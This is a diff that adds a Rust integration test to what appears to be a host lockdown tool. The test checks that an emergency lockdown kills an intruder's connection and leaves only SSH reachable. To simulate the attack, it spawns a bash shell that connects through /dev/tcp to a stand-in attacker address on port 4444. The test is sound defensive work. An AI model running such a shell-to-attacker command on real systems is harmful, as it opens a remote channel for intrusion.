@@ -392,3 +392,44 @@ fn release_asks_for_the_hosts_name_and_rollback_does_not() {
     guard.tell("release", &["--host", &host]).unwrap();
     assert_eq!(guard.status().unwrap()["mode"], "none");
 }
+
+/// Nobody confirms, and the way in opens to whoever comes; nothing else does. What was ended at once stays so.
+#[test]
+fn on_timeout_the_way_in_alone_opens() {
+    let Some(world) = new_world("netns_lockdown ssh_only") else { return };
+    let sshd = Sshd::start(&world.server, world.dir(), 22).unwrap();
+    let guard = Guard::prepare(&world, "version: 1\nmode: audit\ninbound: []\noutbound: []\n").unwrap();
+    let listener = world.intruder.run(|| TcpListener::bind((world.intruder.v4, 4444))).unwrap();
+    let mut shell = world.server.command("/bin/bash");
+    let mut shell = Process::spawn(shell.args(["-c", "exec 3<>/dev/tcp/203.0.113.9/4444; cat <&3"])).unwrap();
+    let _stream = listener.accept().unwrap();
+    // A policy of the person's own has to drop, too.
+    guard.write_policy("version: 1\nmode: audit\ninbound: []\noutbound: []\n").unwrap();
+    let mut audits = guard.command("lockdown").unwrap();
+    audits.args(["--yes", "--console", "--policy"]).arg(guard.policy());
+    let refused = run(&mut audits, LIMIT).unwrap();
+    assert!(refused.code() == Some(3) && refused.stderr.contains("only audits"), "{}", refused.text());
+
+    let more = "--snapshot-within 0 --confirm-within 8s --on-timeout ssh-only --destroy-now";
+    let (lockdown, contained) = lock_down(&sshd, &world, &guard, more);
+    let ended = contained["ended"].as_array().unwrap();
+    assert_eq!(ended.len(), 1, "{contained:#}");
+    assert_eq!(ended[0]["who"]["pid"], shell.pid(), "{contained:#}");
+    let gone = Instant::now() + Duration::from_secs(5);
+    while shell.ended().unwrap().is_none() {
+        assert!(Instant::now() < gone, "the shell's socket is gone, so it is over");
+        thread::sleep(Duration::from_millis(10));
+    }
+    let outsider = || {
+        let mut command = sshd.client(&world.intruder, world.server.v4.into());
+        run(command.args(["-o", "ConnectTimeout=1", "true"]), LIMIT).unwrap().good()
+    };
+    assert!(!outsider(), "only the way in's own place");
+    let ended = lockdown.finish(LIMIT).unwrap();
+    assert_eq!(ended.code(), Some(1), "{}", ended.text());
+    assert!(outsider(), "from anywhere");
+    let out = guard_tests::flows::Flow::new("out tcp intruder 4444", false);
+    assert!(!out.passes(&world, false), "and nothing else");
+    let status = guard.status().unwrap();
+    assert!(status["policy"] == "lockdown-ssh-only" && status["enforcing"] == true, "{status:#}");
+}
